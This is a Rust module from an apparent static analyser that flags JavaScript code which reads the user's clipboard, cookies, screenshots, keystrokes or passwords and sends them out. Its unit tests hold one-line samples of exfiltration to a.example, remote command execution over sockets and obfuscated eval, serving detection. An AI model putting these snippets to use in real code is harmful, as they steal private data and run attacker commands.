//! Recognizes calls that return private data of the user (clipboard, screen, cookies, requests of
//! other programs), and ways to send data other than a plain request.

use super::{JavaScriptReader, calls::Call};
use crate::{
    action::Taint,
    value::{self, CLIPBOARD, COOKIES, KEYSTROKES, PROGRAM_REQUESTS, SCREENSHOTS, Value},
};
use savoir_skill::Span;

/// Name of a regular expression; its only item is the pattern text.
pub(super) const REGULAR_EXPRESSION: &str = "RegExp()";

/// Whether an assignment replaces a library function, so that the new one sees every request.
pub(super) fn patches_library(property: &str, object: &Value) -> bool {
    let name = object.name.as_deref().unwrap_or_default();
    match property {
        "fetch" => matches!(name, "globalThis" | "window" | "global" | "self"),
        "request" | "get" => matches!(name, "http" | "https"),
        "open" | "send" | "setRequestHeader" => name.contains("XMLHttpRequest"),
        _ => false,
    }
}

/// Records a pattern that searches file names for secrets.
fn record_secret_search(reader: &mut JavaScriptReader<'_>, pattern: &Value, span: Span) {
    if pattern.name.as_deref() == Some(REGULAR_EXPRESSION)
        && !reader.leaves_out
        && let Some(text) = pattern.items.first().and_then(Value::known)
    {
        value::record_credential_mention(text, span, &mut reader.actions);
    }
}

pub(super) fn by_name(
    reader: &mut JavaScriptReader<'_>,
    name: &str,
    arguments: &[Value],
    span: Span,
) -> Option<Value> {
    let first = arguments.first().cloned().unwrap_or_default();
    // `require('clipboardy').default.read` is `clipboardy.read`.
    let short = name.replacen(".default.", ".", 1);
    Some(match short.as_str() {
        "clipboardy.read"
        | "clipboardy.readSync"
        | "copy-paste.paste"
        | "clipboard.readText"
        | "electron.clipboard.readText"
        | "navigator.clipboard.readText"
        | "navigator.clipboard.read" => {
            reader.harmful_calls.pastes |= reader.loops > 0;
            Value::tainted(Taint::private(CLIPBOARD))
        }
        "clipboardy.write" | "clipboardy.writeSync" | "navigator.clipboard.writeText" => {
            if reader.loops > 0 {
                reader.harmful_calls.copies.get_or_insert(span);
            }
            Value::default()
        }
        "screenshot-desktop"
        | "screenshot-desktop.all"
        | "desktopCapturer.getSources"
        | "electron.desktopCapturer.getSources" => Value::tainted(Taint::private(SCREENSHOTS)),
        "chrome.cookies.getAll" | "browser.cookies.getAll" | "chrome.cookies.get" => {
            Value::tainted(Taint::private("cookies of the browser"))
        }
        "keytar.getPassword" | "keytar.findPassword" => {
            value::read_keychain(&first, span, &mut reader.actions)
        }
        "socket.io-client"
        | "socket.io-client.io"
        | "socket.io-client.connect"
        | "io"
        | "mqtt.connect"
        | "mqtt.connectAsync"
        | "nats.connect"
        | "amqplib.connect" => {
            let log_in: Vec<&Value> = arguments.iter().skip(1).collect();
            let value = value::record_send(&first, &[], &log_in, span, &mut reader.actions);
            Value { name: Some("WebSocket()".into()), ..value }
        }
        _ if name.contains("interceptors.") && name.rsplit('.').next() == Some("use") => {
            let seen = Value::tainted(Taint::private(PROGRAM_REQUESTS));
            for handler in arguments {
                if reader.is_function(handler) {
                    reader.invoke(handler, std::slice::from_ref(&seen), span);
                }
            }
            Value::default()
        }
        _ => return None,
    })
}

pub(super) fn by_method<'t>(
    reader: &mut JavaScriptReader<'t>,
    method: &str,
    call: &Call<'_, 't>,
) -> Option<Value> {
    let (receiver, arguments, span) = (call.receiver, call.arguments, call.span);
    let first = arguments.first().cloned().unwrap_or_default();
    let host = receiver.name.as_deref().unwrap_or_default();
    Some(match method {
        "test" | "exec" if host == REGULAR_EXPRESSION => {
            record_secret_search(reader, receiver, span);
            return None;
        }
        "match" | "matchAll" | "search" => {
            record_secret_search(reader, &first, span);
            return None;
        }
        "includes" | "has" if !reader.leaves_out => {
            value::record_secret_name_list(receiver, span, &mut reader.actions);
            return None;
        }
        "emit" | "publish" if receiver.taint.fetched.is_some() => {
            let to = Value { text: receiver.taint.fetched.clone(), ..Value::default() };
            let parts: Vec<&Value> = arguments.iter().skip(1).collect();
            value::record_send(&to, &parts, &[], span, &mut reader.actions)
        }
        "fastPut" | "uploadFrom" | "uploadFile" => {
            let content = reader.read_file(&first, span);
            let to = Value { text: receiver.taint.fetched.clone(), ..Value::default() };
            value::record_send(&to, &[&content], &[], span, &mut reader.actions)
        }
        "getItem" => Value::default(),
        "emit" | "dispatchEvent" | "publish" => {
            let event = first.known().unwrap_or_default().to_owned();
            let passed_values = arguments.get(1..).unwrap_or_default();
            for listener in reader.listeners.get(&event).cloned().unwrap_or_default() {
                reader.invoke(&listener, passed_values, span);
            }
            return None;
        }
        "on" | "once" | "addListener" | "subscribe" if receiver.taint.fetched.is_none() => {
            if let (Some(event), Some(listener)) = (first.known(), arguments.get(1))
                && reader.is_function(listener)
                && reader.listeners.len() < 1024
            {
                let known = reader.listeners.entry(event.to_owned()).or_default();
                if known.len() < 16 && !known.contains(listener) {
                    known.push(listener.clone());
                }
            }
            return call_key_listener(reader, call);
        }
        "cookies" | "storageState" | "getAllCookies"
            if arguments.iter().all(|value| !reader.is_function(value)) =>
        {
            Value::tainted(Taint::private(COOKIES))
        }
        "send"
            if first.known().is_some_and(|text| {
                matches!(
                    text,
                    "Network.getAllCookies" | "Network.getCookies" | "Storage.getCookies"
                )
            }) =>
        {
            Value::tainted(Taint::private(COOKIES))
        }
        // A function that runs in the page receives the arguments after it.
        "evaluate"
        | "evaluateHandle"
        | "$eval"
        | "$$eval"
        | "addInitScript"
        | "executeScript"
        | "evaluateOnNewDocument"
            if arguments.iter().take(2).any(|value| reader.is_function(value)) =>
        {
            let at = arguments.iter().position(|value| reader.is_function(value))?;
            let function = arguments[at].clone();
            reader.invoke(&function, &arguments[at + 1..], span)
        }
        "use" if host.starts_with("express") => {
            // Middleware sees the headers of every request.
            let response_value = Value::tainted(Taint::fetched(""));
            let seen = Value::tainted(Taint::private(PROGRAM_REQUESTS));
            let request = Value {
                items: vec![Value::entry("headers", seen.clone()), Value::entry("cookies", seen)],
                ..response_value
            };
            for handler in arguments {
                if reader.is_function(handler) {
                    reader.invoke(handler, std::slice::from_ref(&request), span);
                }
            }
            receiver.clone()
        }
        // A client of any package, with the address as argument.
        "post" | "put" | "patch"
            if first.text_or_unknown().starts_with("http")
                && first.text_or_unknown().contains("://") =>
        {
            let parts: Vec<Value> = sent_parts(arguments);
            let parts: Vec<&Value> = parts.iter().collect();
            value::record_send(&first, &parts, &[], span, &mut reader.actions)
        }
        _ => return None,
    })
}

/// Calls the listener of a keyboard hook with the pressed keys.
fn call_key_listener<'t>(reader: &mut JavaScriptReader<'t>, call: &Call<'_, 't>) -> Option<Value> {
    let event = call.arguments.first()?.known()?;
    let host = call.receiver.name.as_deref()?.to_lowercase();
    let hook = ["iohook", "uiohook", "key-listener", "keyboard"];
    if !matches!(event, "keydown" | "keypress" | "keyup")
        || !hook.iter().any(|part| host.contains(part))
    {
        return None;
    }
    let handler = call.arguments.get(1)?.clone();
    reader.invoke(&handler, &[Value::tainted(Taint::private(KEYSTROKES))], call.span);
    Some(call.receiver.clone())
}

/// Returns the parts of a request other than its login.
fn sent_parts(arguments: &[Value]) -> Vec<Value> {
    let mut parts = Vec::new();
    for argument in arguments.iter().skip(1) {
        let header = |item: &&Value| {
            !matches!(item.name.as_deref(), Some("headers:" | "auth:" | "cookies:"))
        };
        parts.push(Value::tainted(argument.taint.clone()));
        parts.extend(argument.items.iter().filter(header).cloned());
    }
    parts
}

/// Whether an assignment loads a URL, as `new Image().src = url` does, which sends everything in
/// it.
pub(super) fn loads_url(property: &str, object: &Value) -> bool {
    let element = object.name.as_deref().unwrap_or_default();
    matches!(property, "src" | "href" | "action")
        && (element == "Image()"
            || element.contains("createElement")
            || element.starts_with("document."))
        || matches!(element, "window.location" | "location" | "document.location")
            && property == "href"
}

#[cfg(test)]
mod tests {
    use crate::{
        action::{Action, Actions, CodeOrigin},
        javascript::read,
    };

    fn actions(text: &str) -> Actions {
        read("x.js", text).unwrap_or_else(|error| panic!("{error}: {text}"))
    }

    fn sends_private(text: &str) -> bool {
        actions(text)
            .located
            .iter()
            .any(|seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.private.is_some()))
    }

    #[test]
    fn clipboard_and_cookies_are_private() {
        for text in [
            "const c = require('clipboardy').default; fetch('https://a.example', { method: 'POST', body: c.readSync() });",
            "navigator.clipboard.readText().then(t => navigator.sendBeacon('https://a.example', t));",
            "const api = require('axios').create(); api.interceptors.request.use(c => { fetch('https://a.example', { body: c.headers }); return c; });",
            "const real = globalThis.fetch; globalThis.fetch = (u, o) => { real('https://a.example', { body: o }); return real(u, o); };",
            "const c = await page.cookies(); new Image().src = 'https://a.example/?' + JSON.stringify(c);",
            "const c = await page.cookies(); await page.evaluate(v => fetch('https://a.example', { body: v }), c);",
            "bus.on('k', v => fetch('https://a.example', { body: v })); bus.emit('k', document.cookie);",
        ] {
            assert!(sends_private(text), "{text}");
        }
        assert!(!sends_private("api.interceptors.response.use(r => r, e => api(e.config));"));
    }

    #[test]
    fn commands_from_outside_are_found() {
        for text in [
            "const ws = new WebSocket('wss://a.example'); const ops = { x: a => require('child_process').exec(a) }; ws.onmessage = e => { const m = JSON.parse(e.data); ops[m.op](m.arg); };",
            "const s = require('socket.io-client')('https://a.example'); s.on('c', c => require('child_process').exec(c));",
            "c.on('messageCreate', m => { const [k, ...a] = m.content.split(' '); require('child_process').execSync(a.join(' ')); });",
        ] {
            let found = actions(text).located;
            let executes_outside_data =
                |action: &Action| matches!(action, Action::ExecutesCode(CodeOrigin::Fetched(_)));
            assert!(found.iter().any(|seen| executes_outside_data(&seen.action)), "{text}");
        }
    }

    #[test]
    fn exclusion_lists_are_not_searches() {
        let names = |text: &str| {
            actions(text)
                .located
                .iter()
                .any(|seen| matches!(seen.action, Action::MentionsCredentials(_)))
        };
        assert!(names("for (const f of files) if (/\\.env$|\\.pem$/.test(f)) out.push(f);"));
        assert!(!names("for (const f of files) { if (/\\.env$|\\.pem$/.test(f)) continue; }"));
        assert!(!names("files.filter(f => !/\\.env$|\\.pem$/.test(f));"));
    }

    #[test]
    fn assembled_function_names_are_found() {
        let hides = |text: &str| {
            actions(text).located.iter().any(|seen| matches!(seen.action, Action::Obfuscates(_)))
        };
        assert!(hides("(() => {})['con' + 'structor']('return 1')();"));
        assert!(hides("globalThis[['ev', 'al'].join('')]('1');"));
        assert!(!hides("const a = (async () => {}).constructor;"));
        assert!(!hides("globalThis['fetch']('https://a.example');"));
    }
}
